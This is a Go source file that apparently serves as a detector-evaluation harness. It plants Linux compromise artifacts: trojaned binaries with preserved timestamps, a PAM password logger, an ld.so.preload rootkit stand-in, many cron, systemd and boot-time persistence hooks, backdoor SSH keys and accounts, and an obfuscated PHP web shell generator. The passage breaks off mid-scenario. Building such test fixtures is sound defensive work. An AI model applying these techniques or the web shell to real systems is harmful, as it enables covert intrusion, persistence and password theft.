package main

import (
	"bytes"
	"compress/flate"
	"crypto/ed25519"
	"crypto/md5"
	"crypto/rand"
	"crypto/sha256"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"fmt"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/crypto/ssh"
)

// The attacks are this project's own implementations of well-known techniques (see
// ../shared/testdata/atomic-red-team/LINUX_ATOMIC_EFFECTS.md for what the public tests change
// on disk). Payloads are inert: scripts that are never run, copies of the root's own programs
// with a tag appended, addresses from the documentation ranges.

// Password hashes an intruder would set (SHA-512 crypt of throwaway passwords, made with
// `openssl passwd -6`).
const (
	intruderHash  = "$6$Qm9yZWFsaXM$aduEH21fiEaZRUMZfHCITUC/wtjs8.Fl9nf0NExja9Uxzxj/ADJzaXtHxoxb1Z9ErobmiPRa.qudu4sx3nBeM."
	intruderHash2 = "$6$dGVzdHNhbHQx$UOPq6FeSvNjJMDkHqj0gb0i36LInL9cSV0q2jAWhET8rBFZe4xuuTCrFuBJlQW1EqZ.TTTMNjn2mHpp5PG5co1"
	c2Addr        = "203.0.113.66"
)

// intruderKey is an intruder's SSH public key (from a fixed seed, so runs compare; the private
// half is never used).
var intruderKey = func() string {
	seed := sha256.Sum256([]byte("nowwhat eval intruder key"))
	pk, err := ssh.NewPublicKey(ed25519.NewKeyFromSeed(seed[:]).Public())
	if err != nil {
		return "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBn8Zkq7bU2x0mC6nV9lP3sR4tY5uW6vX7yZ8aB9cD0e"
	}
	return strings.TrimSpace(string(ssh.MarshalAuthorizedKey(pk)))
}()

// elfDonors are programs every Debian root has, copied to make implants.
var elfDonors = []string{"/usr/bin/sleep", "/usr/bin/true", "/usr/bin/cat"}

func isELF(b []byte) bool { return len(b) > 4 && string(b[:4]) == "\x7fELF" }

// uniqueTail makes a copied program a distinct file (the loader ignores trailing bytes).
func uniqueTail(tag string) []byte {
	n := make([]byte, 16)
	rand.Read(n)
	return []byte("\x00" + tag + "\x00" + hex.EncodeToString(n) + "\x00")
}

// implant returns a working ELF program of the root with a unique tail: a new binary.
func implant(r Root, tag string) ([]byte, error) {
	for _, d := range elfDonors {
		data, err := r.ReadFile(d)
		if err == nil && isELF(data) {
			return append(data, uniqueTail(tag)...), nil
		}
	}
	return nil, fmt.Errorf("no ELF program in the root to copy (%v)", elfDonors)
}

// dropImplant writes an implant program at p (mode 0755, root).
func dropImplant(r Root, p, tag string) error {
	data, err := implant(r, tag)
	if err != nil {
		return err
	}
	return r.WriteFile(p, data, 0o755)
}

// trojan returns a patched copy of a program: 32 bytes in the middle changed and a tail added,
// the way a rebuilt, trojaned binary differs from the packaged one.
func trojan(orig []byte, tag string) ([]byte, error) {
	if !isELF(orig) || len(orig) < 256 {
		return nil, errors.New("not an ELF program")
	}
	out := bytes.Clone(orig)
	mid := len(out) / 2
	for i := 0; i < 32 && mid+i < len(out); i++ {
		out[mid+i] ^= 0x5a
	}
	return append(out, uniqueTail(tag)...), nil
}

// replaceKeepingTimes rewrites p with data and puts its old times back (`touch -r`), as
// careful intruders do.
func replaceKeepingTimes(r Root, p string, data []byte) error {
	fi, err := r.Lstat(p)
	if err != nil {
		return err
	}
	if fi.Mode()&os.ModeSymlink != 0 {
		return fmt.Errorf("%s is a symbolic link", p)
	}
	if err := r.Rewrite(p, data); err != nil {
		return err
	}
	return r.Touch(p, fi.ModTime())
}

// writeScript writes a shell script (mode 0755).
func writeScript(r Root, p, body string) error {
	return r.WriteFile(p, []byte("#!/bin/sh\n"+body), 0o755)
}

// appendAccount adds an account the way `echo ... >> /etc/passwd` does (no useradd, no log).
func appendAccount(e *Env, name string, uid, gid int, home, shell, hash string) error {
	r := e.Root
	days := e.now().Unix() / 86400
	if err := r.AppendLine("/etc/passwd", fmt.Sprintf("%s:x:%d:%d::%s:%s", name, uid, gid, home, shell)); err != nil {
		return err
	}
	return r.AppendLine("/etc/shadow", fmt.Sprintf("%s:%s:%d:0:99999:7:::", name, hash, days))
}

// setPassword changes the password field of an account in /etc/shadow and, as passwd -d,
// usermod -p and chpasswd do, the day of the last change.
func setPassword(e *Env, user, hash string) error {
	day := strconv.FormatInt(e.now().Unix()/86400, 10)
	return e.Root.EditLines("/etc/shadow", func(l string) []string {
		f := strings.Split(l, ":")
		if len(f) >= 3 && f[0] == user {
			f[1] = hash
			f[2] = day
			return []string{strings.Join(f, ":")}
		}
		return []string{l}
	})
}

// setShell changes the login shell of an account in /etc/passwd.
func setShell(r Root, user, shell string) error {
	return r.EditLines("/etc/passwd", func(l string) []string {
		f := strings.Split(l, ":")
		if len(f) == 7 && f[0] == user {
			f[6] = shell
			return []string{strings.Join(f, ":")}
		}
		return []string{l}
	})
}

// capSetuidEP is the security.capability value of "cap_setuid=ep" (vfs_cap_data revision 2).
func capSetuidEP() []byte {
	b := make([]byte, 20)
	binary.LittleEndian.PutUint32(b[0:], 0x02000000|0x1) // VFS_CAP_REVISION_2 | effective
	binary.LittleEndian.PutUint32(b[4:], 1<<7)           // permitted: CAP_SETUID
	return b
}

// kernelModule is a small ELF relocatable object with a .modinfo-like string table (a stand-in
// for a rootkit .ko: no kernel is installed in the eval root).
func kernelModule(name string) []byte {
	h := make([]byte, 64)
	copy(h, "\x7fELF\x02\x01\x01")
	binary.LittleEndian.PutUint16(h[16:], 1)  // ET_REL
	binary.LittleEndian.PutUint16(h[18:], 62) // EM_X86_64
	binary.LittleEndian.PutUint32(h[20:], 1)
	binary.LittleEndian.PutUint16(h[52:], 64) // e_ehsize
	binary.LittleEndian.PutUint16(h[58:], 64) // e_shentsize
	info := "license=GPL\x00author=kernel\x00description=netfilter connection helper\x00name=" + name +
		"\x00vermagic=" + kernelRelease + " SMP preempt mod_unload modversions \x00"
	return append(append(h, info...), uniqueTail("ko")...)
}

// lineMD5 rewrites the md5sums line of one file of a package.
func rewriteMD5(r Root, list, file string, data []byte) error {
	sum := md5.Sum(data)
	rel := strings.TrimPrefix(file, "/")
	return r.EditLines(list, func(l string) []string {
		if strings.HasSuffix(l, "  "+rel) {
			return []string{hex.EncodeToString(sum[:]) + "  " + rel}
		}
		return []string{l}
	})
}

// crontabHeader is what crontab(1) writes at the top of a spool file.
func crontabHeader(t time.Time) string {
	return "# DO NOT EDIT THIS FILE - edit the master and reinstall.\n" +
		fmt.Sprintf("# (/tmp/crontab.k2JdQe/crontab installed on %s)\n", t.UTC().Format("Mon Jan _2 15:04:05 2006")) +
		"# (Cron version -- $Id: crontab.c,v 2.13 1994/01/17 03:20:37 vixie Exp $)\n"
}

// userCrontab writes a spool crontab the way crontab(1) leaves it (user:crontab 0600).
func userCrontab(e *Env, user, lines string) error {
	r := e.Root
	p := "/var/spool/cron/crontabs/" + user
	if err := r.MkdirAll("/var/spool/cron/crontabs", 0o1730); err != nil {
		return err
	}
	old, _ := r.ReadFile(p)
	content := string(old)
	if content == "" {
		content = crontabHeader(e.now())
	}
	if err := r.WriteFile(p, []byte(content+lines), 0o600); err != nil {
		return err
	}
	grp := "crontab"
	if _, err := r.GID(grp); err != nil {
		grp = "root"
	}
	return r.Chown(p, user, grp)
}

// obfuscatedShell returns a PHP file that decodes and evals a command runner, hidden behind
// rot13 and reversed function names (written for this project).
func obfuscatedShell() string {
	inner := `if(isset($_POST['q'])){$o=array();@exec($_POST['q'],$o);echo implode("\n",$o);}`
	var buf bytes.Buffer
	zw, _ := flate.NewWriter(&buf, flate.BestCompression)
	zw.Write([]byte(inner))
	zw.Close()
	blob := base64.StdEncoding.EncodeToString(buf.Bytes())
	return "<?php\n/* thumbnail cache */\n$a = str_rot13('onfr64_qrpbqr');\n$b = strrev('etalfnizg');\n$c = '" +
		blob[:len(blob)/2] + "'.'" + blob[len(blob)/2:] + "';\n@eval($b($a($c)));\n"
}

func attackScenarios() []*Scenario {
	return []*Scenario{
		// ---------------------------------------------------------------- package integrity
		{
			Name: "pkg-sshd-trojaned", Category: CatPackage, Kind: Attack, Techniques: []string{"T1554"},
			Description: "/usr/sbin/sshd replaced by a patched build (different bytes, same times: touch -r); no package explains it",
			Apply: func(e *Env) error {
				orig, err := e.Root.ReadFile("/usr/sbin/sshd")
				if err != nil {
					return err
				}
				t, err := trojan(orig, "sshd-backdoor")
				if err != nil {
					return err
				}
				return replaceKeepingTimes(e.Root, "/usr/sbin/sshd", t)
			},
			Expect:  Expect{Verdict: VerdictCompromised, Paths: []string{"/usr/sbin/sshd"}},
			Changes: []Want{{Path: "/usr/sbin/sshd", Contains: "sshd-backdoor"}},
		},
		{
			Name: "pkg-pam-unix-replaced", Category: CatPackage, Kind: Attack, Techniques: []string{"T1556.003"},
			Description: "pam_unix.so overwritten with a copy of pam_permit.so (every password accepted); times kept",
			Apply: func(e *Env) error {
				dir := "/lib/x86_64-linux-gnu/security"
				permit, err := e.Root.ReadFile(dir + "/pam_permit.so")
				if err != nil {
					return err
				}
				return replaceKeepingTimes(e.Root, dir+"/pam_unix.so", permit)
			},
			Expect:  Expect{Verdict: VerdictCompromised, Paths: []string{"/lib/x86_64-linux-gnu/security/pam_unix.so"}},
			Changes: []Want{{Path: "/lib/x86_64-linux-gnu/security/pam_unix.so", Contains: "pam_permit"}},
		},
		{
			Name: "pkg-md5sums-rewritten", Category: CatPackage, Kind: Attack, Techniques: []string{"T1554", "T1070"},
			Description: "/bin/login trojaned and its line in /var/lib/dpkg/info/login.md5sums rewritten to the new digest (times of both kept)",
			Apply: func(e *Env) error {
				r := e.Root
				orig, err := r.ReadFile("/bin/login")
				if err != nil {
					return err
				}
				t, err := trojan(orig, "login-backdoor")
				if err != nil {
					return err
				}
				list := "/var/lib/dpkg/info/login.md5sums"
				lfi, err := r.Lstat(list)
				if err != nil {
					return err
				}
				if err := replaceKeepingTimes(r, "/bin/login", t); err != nil {
					return err
				}
				if err := rewriteMD5(r, list, "/bin/login", t); err != nil {
					return err
				}
				return r.Touch(list, lfi.ModTime())
			},
			Expect: Expect{Verdict: VerdictSuspicious, Paths: []string{"/bin/login", "/var/lib/dpkg/info/login.md5sums"}},
			Changes: []Want{{Path: "/bin/login", Contains: "login-backdoor"},
				{Path: "/var/lib/dpkg/info/login.md5sums", Contains: "  bin/login"}},
		},
		{
			Name: "pkg-unowned-binary", Category: CatPackage, Kind: Attack, Techniques: []string{"T1036.005"},
			Description: "a new program /usr/bin/systemd-resolvectl (a name close to real ones) that no package owns",
			Apply: func(e *Env) error {
				return dropImplant(e.Root, "/usr/bin/systemd-resolvectl", "resolvectl")
			},
			Expect:  Expect{Verdict: VerdictSuspicious, Paths: []string{"/usr/bin/systemd-resolvectl"}},
			Changes: []Want{{Path: "/usr/bin/systemd-resolvectl", Mode: 0o755}},
		},

		// ---------------------------------------------------------------- persistence
		{
			Name: "persist-cron-system", Category: CatPersistence, Kind: Attack, Techniques: []string{"T1053.003"},
			Description: "/etc/cron.d/apt-compat-check runs a script from a hidden folder in /var/tmp every 10 minutes as root",
			Apply: func(e *Env) error {
				r := e.Root
				if err := writeScript(r, "/var/tmp/.apt-cache/apt-check", "cd /var/tmp/.apt-cache && ./.s >/dev/null 2>&1 &\n"); err != nil {
					return err
				}
				return r.WriteFile("/etc/cron.d/apt-compat-check", []byte("# periodic package cache check\nSHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n\n*/10 * * * * root /var/tmp/.apt-cache/apt-check >/dev/null 2>&1\n"), 0o644)
			},
			Expect:  Expect{Verdict: VerdictSuspicious, Paths: []string{"/etc/cron.d/apt-compat-check"}},
			Changes: []Want{{Path: "/etc/cron.d/apt-compat-check", Contains: "/var/tmp/.apt-cache/apt-check"}},
		},
		{
			Name: "persist-cron-user", Category: CatPersistence, Kind: Attack, Techniques: []string{"T1053.003"},
			Description: "a crontab for www-data (the web server's account, through a web shell) starting a program in /dev/shm at boot and every 15 minutes",
			Apply: func(e *Env) error {
				if err := dropImplant(e.Root, "/dev/shm/.php-sess/update", "php-sess"); err != nil {
					return err
				}
				return userCrontab(e, "www-data", "@reboot /dev/shm/.php-sess/update >/dev/null 2>&1\n*/15 * * * * /dev/shm/.php-sess/update >/dev/null 2>&1\n")
			},
			Expect:  Expect{Verdict: VerdictSuspicious, Paths: []string{"/var/spool/cron/crontabs/www-data"}},
			Changes: []Want{{Path: "/var/spool/cron/crontabs/www-data", Contains: "@reboot /dev/shm/.php-sess/update", Owner: "www-data"}},
		},
		{
			Name: "persist-systemd-timer", Category: CatPersistence, Kind: Attack, Techniques: []string{"T1053.006", "T1543.002"},
			Description: "a system service and timer (enabled in timers.target.wants) running a script from /var/tmp every 15 minutes",
			Apply: func(e *Env) error {
				r := e.Root
				if err := writeScript(r, "/var/tmp/.systemd-private/journal-sync", "exec /var/tmp/.systemd-private/.j >/dev/null 2>&1\n"); err != nil {
					return err
				}
				if err := r.WriteFile("/etc/systemd/system/journal-sync.service", []byte("[Unit]\nDescription=Journal synchronisation\n\n[Service]\nType=simple\nExecStart=/var/tmp/.systemd-private/journal-sync\n"), 0o644); err != nil {
					return err
				}
				if err := r.WriteFile("/etc/systemd/system/journal-sync.timer", []byte("[Unit]\nDescription=Journal synchronisation timer\n\n[Timer]\nOnBootSec=2min\nOnUnitActiveSec=15min\n\n[Install]\nWantedBy=timers.target\n"), 0o644); err != nil {
					return err
				}
				return r.Symlink("/etc/systemd/system/journal-sync.timer", "/etc/systemd/system/timers.target.wants/journal-sync.timer")
			},
			Expect: Expect{Verdict: VerdictSuspicious, Paths: []string{"/etc/systemd/system/journal-sync.service", "/etc/systemd/system/journal-sync.timer", "/etc/systemd/system/timers.target.wants/journal-sync.timer"}},
			Changes: []Want{{Path: "/etc/systemd/system/journal-sync.service", Contains: "ExecStart=/var/tmp/"},
				{Path: "/etc/systemd/system/timers.target.wants/journal-sync.timer", Link: "/etc/systemd/system/journal-sync.timer"}},
		},
		{
			Name: "persist-systemd-user", Category: CatPersistence, Kind: Attack, Techniques: []string{"T1543.002"},
			Description: "a per-user systemd unit of alice enabled in ~/.config/systemd/user/default.target.wants, running a hidden program in her home",
			Apply: func(e *Env) error {
				r := e.Root
				dir := "/home/alice/.config/systemd/user"
				bin := "/home/alice/.local/share/.pulse/pulse-sync"
				if err := dropImplant(r, bin, "pulse-sync"); err != nil {
					return err
				}
				if err := r.WriteFile(dir+"/pulse-sync.service", []byte("[Unit]\nDescription=PulseAudio sync\n\n[Service]\nExecStart="+bin+"\nRestart=always\nRestartSec=30\n\n[Install]\nWantedBy=default.target\n"), 0o644); err != nil {
					return err
				}
				if err := r.Symlink(dir+"/pulse-sync.service", dir+"/default.target.wants/pulse-sync.service"); err != nil {
					return err
				}
				for _, p := range []string{"/home/alice/.config", "/home/alice/.config/systemd", dir, dir + "/default.target.wants", dir + "/default.target.wants/pulse-sync.service", dir + "/pulse-sync.service",
					"/home/alice/.local", "/home/alice/.local/share", "/home/alice/.local/share/.pulse", bin} {
					if err := r.Chown(p, "alice", "alice"); err != nil {
						return err
					}
				}
				return nil
			},
			Expect: Expect{Verdict: VerdictSuspicious, Paths: []string{"/home/alice/.config/systemd/user/pulse-sync.service", "/home/alice/.config/systemd/user/default.target.wants/pulse-sync.service"}},
			Changes: []Want{{Path: "/home/alice/.config/systemd/user/default.target.wants/pulse-sync.service", Link: "/home/alice/.config/systemd/user/pulse-sync.service"},
				{Path: "/home/alice/.config/systemd/user/pulse-sync.service", Owner: "alice"}},
		},
		{
			Name: "persist-rc-local", Category: CatPersistence, Kind: Attack, Techniques: []string{"T1037.004"},
			Description: "an /etc/rc.local (Debian 12 has none) that decodes base64 and pipes it to sh at boot",
			Apply: func(e *Env) error {
				payload := base64.StdEncoding.EncodeToString([]byte("nohup /var/tmp/.x.sh >/dev/null 2>&1 &\n"))
				return e.Root.WriteFile("/etc/rc.local", []byte("#!/bin/sh -e\n#\n# rc.local\n#\n# This script is executed at the end of each multiuser runlevel.\n\necho '"+payload+"' | base64 -d | sh\n\nexit 0\n"), 0o755)
			},
			Expect:  Expect{Verdict: VerdictSuspicious, Paths: []string{"/etc/rc.local"}},
			Changes: []Want{{Path: "/etc/rc.local", Contains: "base64 -d | sh", Mode: 0o755}},
		},
		{
			Name: "persist-sysv-init", Category: CatPersistence, Kind: Attack, Techniques: []string{"T1037.004", "T1543.002"},
			Description: "a SysV init script /etc/init.d/netfilter-helper with an LSB header and S01 links in rc2-5.d, starting a hidden program",
			Apply: func(e *Env) error {
				r := e.Root
				if err := dropImplant(r, "/usr/share/.nfh/nfhd", "nfhd"); err != nil {
					return err
				}
				script := `#!/bin/sh
### BEGIN INIT INFO
# Provides:          netfilter-helper
# Required-Start:    $network $remote_fs
# Required-Stop:     $network $remote_fs
# Default-Start:     2 3 4 5
# Default-Stop:      0 1 6
# Short-Description: netfilter connection helper
### END INIT INFO
case "$1" in
  start) start-stop-daemon --start --background --exec /usr/share/.nfh/nfhd ;;
  stop) start-stop-daemon --stop --exec /usr/share/.nfh/nfhd ;;
esac
exit 0
`
				if err := r.WriteFile("/etc/init.d/netfilter-helper", []byte(script), 0o755); err != nil {
					return err
				}
				for _, lvl := range []string{"2", "3", "4", "5"} {
					if err := r.Symlink("../init.d/netfilter-helper", "/etc/rc"+lvl+".d/S01netfilter-helper"); err != nil {
						return err
					}
				}
				for _, lvl := range []string{"0", "1", "6"} {
					if err := r.Symlink("../init.d/netfilter-helper", "/etc/rc"+lvl+".d/K01netfilter-helper"); err != nil {
						return err
					}
				}
				return nil
			},
			Expect: Expect{Verdict: VerdictSuspicious, Paths: []string{"/etc/init.d/netfilter-helper", "/etc/rc2.d/S01netfilter-helper", "/etc/rc3.d/S01netfilter-helper", "/etc/rc5.d/S01netfilter-helper"}},
			Changes: []Want{{Path: "/etc/init.d/netfilter-helper", Contains: "/usr/share/.nfh/nfhd"},
				{Path: "/etc/rc2.d/S01netfilter-helper", Link: "../init.d/netfilter-helper"}},
		},
		{
			Name: "persist-profile-d", Category: CatPersistence, Kind: Attack, Techniques: []string{"T1546.004"},
			Description: "/etc/profile.d/vte-locale.sh starts a program from /var/tmp in the background whenever root logs in",
			Apply: func(e *Env) error {
				return e.Root.WriteFile("/etc/profile.d/vte-locale.sh", []byte("# locale fix for VTE terminals\nif [ \"$(id -u)\" -eq 0 ]; then\n    (/var/tmp/.font-unix/fc-cache >/dev/null 2>&1 &)\nfi\n"), 0o644)
			},
			Expect:  Expect{Verdict: VerdictSuspicious, Paths: []string{"/etc/profile.d/vte-locale.sh"}},
			Changes: []Want{{Path: "/etc/profile.d/vte-locale.sh", Contains: "/var/tmp/.font-unix/fc-cache"}},
		},
		{
			Name: "persist-bashrc", Category: CatPersistence, Kind: Attack, Techniques: []string{"T1546.004"},
			Description: "a line appended to /root/.bashrc that starts a hidden program in the background at every root shell",
			Apply: func(e *Env) error {
				return e.Root.AppendLine("/root/.bashrc", "(nohup /usr/share/.locale/bash-update >/dev/null 2>&1 &) 2>/dev/null")
			},
			Expect:  Expect{Verdict: VerdictSuspicious, Paths: []string{"/root/.bashrc"}},
			Changes: []Want{{Path: "/root/.bashrc", Contains: "/usr/share/.locale/bash-update"}},
		},
		{
			Name: "persist-update-motd", Category: CatPersistence, Kind: Attack, Techniques: []string{"T1546"},
			Description: "/etc/update-motd.d/60-sysinfo, run as root by pam_motd at every SSH login, starts a program from /var/tmp",
			Apply: func(e *Env) error {
				return writeScript(e.Root, "/etc/update-motd.d/60-sysinfo", "uptime\n(/var/tmp/.motd/sysinfo >/dev/null 2>&1 &)\n")
			},
			Expect:  Expect{Verdict: VerdictSuspicious, Paths: []string{"/etc/update-motd.d/60-sysinfo"}},
			Changes: []Want{{Path: "/etc/update-motd.d/60-sysinfo", Contains: "/var/tmp/.motd/sysinfo", Mode: 0o755}},
		},
		{
			Name: "persist-apt-hook", Category: CatPersistence, Kind: Attack, Techniques: []string{"T1546.016"},
			Description: "an APT::Update::Pre-Invoke hook in /etc/apt/apt.conf.d that starts a program from /var/tmp whenever apt updates",
			Apply: func(e *Env) error {
				return e.Root.WriteFile("/etc/apt/apt.conf.d/99periodic-refresh", []byte("APT::Update::Pre-Invoke {\"nohup /var/tmp/.apt/refresh >/dev/null 2>&1 &\";};\n"), 0o644)
			},
			Expect:  Expect{Verdict: VerdictSuspicious, Paths: []string{"/etc/apt/apt.conf.d/99periodic-refresh"}},
			Changes: []Want{{Path: "/etc/apt/apt.conf.d/99periodic-refresh", Contains: "Pre-Invoke"}},
		},
		{
			Name: "persist-udev-rule", Category: CatPersistence, Kind: Attack, Techniques: []string{"T1546.017"},
			Description: "a udev rule with RUN+= starting a hidden program whenever a network interface appears",
			Apply: func(e *Env) error {
				r := e.Root
				if err := writeScript(r, "/usr/lib/udev/.net-helper", "exec /usr/lib/udev/.nh >/dev/null 2>&1\n"); err != nil {
					return err
				}
				return r.WriteFile("/etc/udev/rules.d/70-net-helper.rules", []byte("ACTION==\"add\", SUBSYSTEM==\"net\", KERNEL==\"eth*|en*\", RUN+=\"/bin/sh -c '/usr/lib/udev/.net-helper &'\"\n"), 0o644)
			},
			Expect:  Expect{Verdict: VerdictSuspicious, Paths: []string{"/etc/udev/rules.d/70-net-helper.rules"}},
			Changes: []Want{{Path: "/etc/udev/rules.d/70-net-helper.rules", Contains: "RUN+="}},
		},
		{
			Name: "persist-kernel-module", Category: CatPersistence, Kind: Attack, Techniques: []string{"T1547.006", "T1014"},
			Description: "a module nfhelper.ko dropped in /lib/modules/KVER/extra and loaded at boot through /etc/modules-load.d/nfhelper.conf",
			Apply: func(e *Env) error {
				r := e.Root
				if err := r.WriteFile("/lib/modules/"+kernelRelease+"/extra/nfhelper.ko", kernelModule("nfhelper"), 0o644); err != nil {
					return err
				}
				return r.WriteFile("/etc/modules-load.d/nfhelper.conf", []byte("# netfilter helper\nnfhelper\n"), 0o644)
			},
			Expect:  Expect{Verdict: VerdictSuspicious, Paths: []string{"/etc/modules-load.d/nfhelper.conf", "/lib/modules/"}},
			Changes: []Want{{Path: "/etc/modules-load.d/nfhelper.conf", Contains: "nfhelper"}, {Path: "/lib/modules/" + kernelRelease + "/extra/nfhelper.ko", Contains: "vermagic="}},
		},
		{
			Name: "persist-ld-preload", Category: CatPersistence, Kind: Attack, Techniques: []string{"T1574.006", "T1014"},
			Description: "/etc/ld.so.preload names a dropped library /usr/local/lib/libdbus-sys.so (a user-land rootkit loads into every program)",
			Apply: func(e *Env) error {
				r := e.Root
				so, err := r.ReadFile("/lib/x86_64-linux-gnu/security/pam_permit.so")
				if err != nil {
					return err
				}
				if err := r.WriteFile("/usr/local/lib/libdbus-sys.so", append(so, uniqueTail("hide")...), 0o755); err != nil {
					return err
				}
				return r.WriteFile("/etc/ld.so.preload", []byte("/usr/local/lib/libdbus-sys.so\n"), 0o644)
			},
			Expect:  Expect{Verdict: VerdictCompromised, Paths: []string{"/etc/ld.so.preload", "/usr/local/lib/libdbus-sys.so"}},
			Changes: []Want{{Path: "/etc/ld.so.preload", Contains: "/usr/local/lib/libdbus-sys.so"}, {Path: "/usr/local/lib/libdbus-sys.so", Mode: 0o755}},
		},
		{
			Name: "persist-pam-exec", Category: CatPersistence, Kind: Attack, Techniques: []string{"T1556.003"},
			Description: "a pam_exec line with expose_authtok added to /etc/pam.d/common-auth: every password typed goes to a hidden script that logs it",
			Apply: func(e *Env) error {
				r := e.Root
				if err := writeScript(r, "/usr/local/sbin/.pam_audit", "read -r PW\necho \"$(date +%s) $PAM_USER $PAM_RHOST $PW\" >> /var/tmp/.sess_cache\nexit 0\n"); err != nil {
					return err
				}
				done := false
				return r.EditLines("/etc/pam.d/common-auth", func(l string) []string {
					if !done && strings.HasPrefix(strings.TrimSpace(l), "auth") {
						done = true
						return []string{"auth\toptional\t\t\tpam_exec.so quiet expose_authtok /usr/local/sbin/.pam_audit", l}
					}
					return []string{l}
				})
			},
			Expect:  Expect{Verdict: VerdictCompromised, Paths: []string{"/etc/pam.d/common-auth"}},
			Changes: []Want{{Path: "/etc/pam.d/common-auth", Contains: "pam_exec.so quiet expose_authtok /usr/local/sbin/.pam_audit"}},
		},
		{
			Name: "persist-sudoers-nopasswd", Category: CatPersistence, Kind: Attack, Techniques: []string{"T1548.003"},
			Description: "/etc/sudoers.d/90-www grants www-data (the web server's account) every command as root without a password",
			Apply: func(e *Env) error {
				return e.Root.WriteFile("/etc/sudoers.d/90-www", []byte("www-data ALL=(ALL:ALL) NOPASSWD: ALL\n"), 0o440)
			},
			Expect:  Expect{Verdict: VerdictSuspicious, Paths: []string{"/etc/sudoers.d/90-www"}, Users: []string{"www-data"}},
			Changes: []Want{{Path: "/etc/sudoers.d/90-www", Contains: "NOPASSWD: ALL"}},
		},
		{
			Name: "persist-ssh-root-key", Category: CatPersistence, Kind: Attack, Techniques: []string{"T1098.004"},
			Description: "an unknown key added to /root/.ssh/authorized_keys",
			Apply: func(e *Env) error {
				r := e.Root
				if err := r.MkdirAll("/root/.ssh", 0o700); err != nil {
					return err
				}
				if err := r.AppendLine("/root/.ssh/authorized_keys", intruderKey+" support@helpdesk"); err != nil {
					return err
				}
				return r.Chmod("/root/.ssh/authorized_keys", 0o600)
			},
			Expect:  Expect{Verdict: VerdictSuspicious, Paths: []string{"/root/.ssh/authorized_keys"}, Evidence: []string{"support@helpdesk"}},
			Changes: []Want{{Path: "/root/.ssh/authorized_keys", Contains: intruderKey}},
		},
		{
			Name: "persist-ssh-forced-command", Category: CatPersistence, Kind: Attack, Techniques: []string{"T1098.004"},
			Description: "a key with command= added to alice's authorized_keys: each login through it starts a hidden program, then a normal shell",
			Apply: func(e *Env) error {
				return e.Root.AppendLine("/home/alice/.ssh/authorized_keys", `command="nohup /var/tmp/.ssh-agent >/dev/null 2>&1 & exec $SHELL -l",no-X11-forwarding `+intruderKey+" backup@nas")
			},
			Expect:  Expect{Verdict: VerdictSuspicious, Paths: []string{"/home/alice/.ssh/authorized_keys"}, Evidence: []string{"backup@nas", "/var/tmp/.ssh-agent"}},
			Changes: []Want{{Path: "/home/alice/.ssh/authorized_keys", Contains: `command="nohup /var/tmp/.ssh-agent`}},
		},
		{
			Name: "persist-authorized-keys-file", Category: CatPersistence, Kind: Attack, Techniques: []string{"T1098.004", "T1556"},
			Description: "sshd_config's AuthorizedKeysFile also reads /usr/share/misc/.%u, where a key for root is dropped",
			Apply: func(e *Env) error {
				r := e.Root
				if err := r.WriteFile("/usr/share/misc/.root", []byte(intruderKey+" ops@jump\n"), 0o644); err != nil {
					return err
				}
				data, err := r.ReadFile("/etc/ssh/sshd_config")
				if err != nil {
					return err
				}
				line := "AuthorizedKeysFile\t.ssh/authorized_keys /usr/share/misc/.%u"
				if bytes.Contains(data, []byte("#AuthorizedKeysFile")) {
					return r.EditLines("/etc/ssh/sshd_config", func(l string) []string {
						if strings.HasPrefix(l, "#AuthorizedKeysFile") {
							return []string{line}
						}
						return []string{l}
					})
				}
				// Put it before any Match block, where it applies to everyone.
				return r.Rewrite("/etc/ssh/sshd_config", append([]byte(line+"\n"), data...))
			},
			Expect:  Expect{Verdict: VerdictSuspicious, Paths: []string{"/etc/ssh/sshd_config", "/usr/share/misc/.root"}},
			Changes: []Want{{Path: "/etc/ssh/sshd_config", Contains: "/usr/share/misc/.%u"}, {Path: "/usr/share/misc/.root", Contains: intruderKey}},
		},

		// ---------------------------------------------------------------- accounts
		{
			Name: "acct-extra-uid0", Category: CatAccounts, Kind: Attack, Techniques: []string{"T1136.001", "T1078.003"},
			Description: "a second UID 0 account sysadm with a password, appended to /etc/passwd and /etc/shadow",
			Apply: func(e *Env) error {
				return appendAccount(e, "sysadm", 0, 0, "/root", "/bin/bash", intruderHash)
			},
			Expect:  Expect{Verdict: VerdictCompromised, Users: []string{"sysadm"}},
			Changes: []Want{{Path: "/etc/passwd", Contains: "sysadm:x:0:0::/root:/bin/bash"}, {Path: "/etc/shadow", Contains: "sysadm:$6$"}},
		},
		{
			Name: "acct-system-shell", Category: CatAccounts, Kind: Attack, Techniques: []string{"T1098", "T1078.003"},
			Description: "the system account www-data given /bin/bash and a password",
			Apply: func(e *Env) error {
				if err := setShell(e.Root, "www-data", "/bin/bash"); err != nil {
					return err
				}
				return setPassword(e, "www-data", intruderHash2)
			},
			Expect:  Expect{Verdict: VerdictSuspicious, Users: []string{"www-data"}},
			Changes: []Want{{Path: "/etc/passwd", Contains: "www-data:x:33:33:www-data:/var/www:/bin/bash"}, {Path: "/etc/shadow", Contains: "www-data:$6$"}},
		},
		{
			Name: "acct-empty-password", Category: CatAccounts, Kind: Attack, Techniques: []string{"T1098"},
			Description: "root's password field emptied in /etc/shadow (passwd -d root): anyone can log in as root on the console or with su",
			Apply: func(e *Env) error {
				return setPassword(e, "root", "")
			},
			Expect:  Expect{Verdict: VerdictSuspicious, Users: []string{"root"}},
			Changes: []Want{{Path: "/etc/shadow", Contains: "root::"}},
		},
		{
			Name: "acct-new-user", Category: CatAccounts, Kind: Attack, Techniques: []string{"T1136.001"},
			Description: "a new login account support (uid 1002, /bin/bash, a password) written straight into the account files, with a home folder; no log line or session explains it",
			Apply: func(e *Env) error {
				r := e.Root
				uid, err := r.NextUID(1000)
				if err != nil {
					return err
				}
				if err := appendAccount(e, "support", uid, 100, "/home/support", "/bin/bash", intruderHash2); err != nil {
					return err
				}
				if err := r.MkdirAll("/home/support", 0o755); err != nil {
					return err
				}
				return r.Chown("/home/support", "support", "100")
			},
			Expect:  Expect{Verdict: VerdictSuspicious, Users: []string{"support"}, Evidence: []string{"user support "}},
			Changes: []Want{{Path: "/etc/passwd", Contains: "support:x:"}, {Path: "/home/support", Owner: "support"}},
		},

		// ---------------------------------------------------------------- privilege
		{
			Name: "priv-setuid-bash", Category: CatPrivilege, Kind: Attack, Techniques: []string{"T1548.001"},
